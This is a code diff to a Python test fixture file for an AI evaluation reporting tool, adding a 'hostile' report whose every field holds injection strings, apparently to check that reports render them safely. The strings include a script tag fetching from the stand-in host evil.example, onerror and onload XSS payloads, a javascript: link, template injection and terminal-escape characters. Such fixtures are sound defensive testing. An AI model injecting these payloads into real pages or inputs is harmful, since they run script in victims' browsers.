@@ -235,9 +235,82 @@ def make_rich() -> Report:
         reruns=2,
     )
     partial = a_policy(
-        [filtered], "server", reduced=1, unused=("x",), why_not="partial run: 1 of 9"
+        [filtered],
+        "server",
+        reduced=1,
+        unused=("x",),
+        why_not="partial run: 1 of 9",
+        collected=9,
     )
     return a_report(partial)
+
+
+HOSTILE = (
+    "<script>fetch('//evil.example')</script>",
+    '"><img src=x onerror="document.title=1">',
+    "<svg onload=alert(1)></svg>",
+    "</textarea></details></style></script><h1>x",
+    "a | b `c` [d](javascript:alert(1)) @team #12 https://evil.example/\n\n# head",
+    "=1+1\x1b[2J\x00\u202e\ud800 {{7*7}} {% raw %} $x^2$ ```",
+)
+
+
+def make_hostile() -> Report:
+    """Text that acts, in every field that others can write."""
+    policies = []
+    for text in HOSTILE:
+        prompts = [
+            Prompt(
+                id=f"{text}-{n}",
+                messages=(Message(role=Role.USER, content=text),),
+                label=label,
+                category=text,
+                taxonomy=text,
+                corpus=text,
+            )
+            for n, label in enumerate((Label.UNSAFE, Label.SAFE, Label.SAFE))
+        ]
+        trials = [Trial(prompt=prompt, policy=text, node_id=text) for prompt in prompts]
+        block = Block(stage=FilterStage.COMPLETION, signal=text, detail=text)
+        said = Response(
+            text=text,
+            refusal=text,
+            finish_reason=text,
+            block=block,
+            tool_calls=(text,),
+            model=text,
+            earlier=(text,),
+        )
+        verdict = Verdict(
+            kind=VerdictKind.REFUSAL,
+            score=1.0,
+            reason=text,
+            evidence=(Evidence(rule=text, text=text[:3], offset=0), Evidence(rule=text, text=text)),
+        )
+        answer = replace(verdict, kind=VerdictKind.ANSWER)
+        outcomes = [
+            Evaluated(trial=trials[0], response=said, verdict=answer, confidence=0.9),
+            Evaluated(trial=trials[1], response=said, verdict=verdict, confidence=0.8),
+            Unevaluated(trial=trials[2], reason=text, error=text, response=said),
+        ]
+        ceiling = Ceiling(measure=Measure.UNDER_REFUSAL, limit=0.1, category=text)
+        policies.append(
+            a_policy(
+                outcomes,
+                text,
+                (ceiling,),
+                skipped=(Skipped(trial=trials[0], why=text),),
+                unused=(text,),
+                collected=4,
+            )
+        )
+    return replace(
+        a_report(*policies, reasons=HOSTILE, notes=HOSTILE),
+        corpora=tuple(CorpusSummary(name=text, prompts=3) for text in HOSTILE),
+        versions=dict.fromkeys(HOSTILE, "1"),
+        command="pytest " + HOSTILE[0],
+        configuration=dict.fromkeys(HOSTILE, HOSTILE[0]),
+    )
 
 
 MADE: dict[str, Callable[[], Report]] = {
@@ -248,6 +321,7 @@ MADE: dict[str, Callable[[], Report]] = {
     "several-policies": make_several_policies,
     "all-errors": make_all_errors,
     "rich": make_rich,
+    "hostile": make_hostile,
 }
 
 
@@ -259,3 +333,9 @@ def report(request: pytest.FixtureRequest) -> Report:
 @pytest.fixture
 def made() -> dict[str, Callable[[], Report]]:
     return MADE
+
+
+@pytest.fixture
+def making() -> tuple[Callable[..., Report], ...]:
+    """What makes a report, a policy, a prompt and an outcome."""
+    return a_report, a_policy, a_prompt, an_outcome
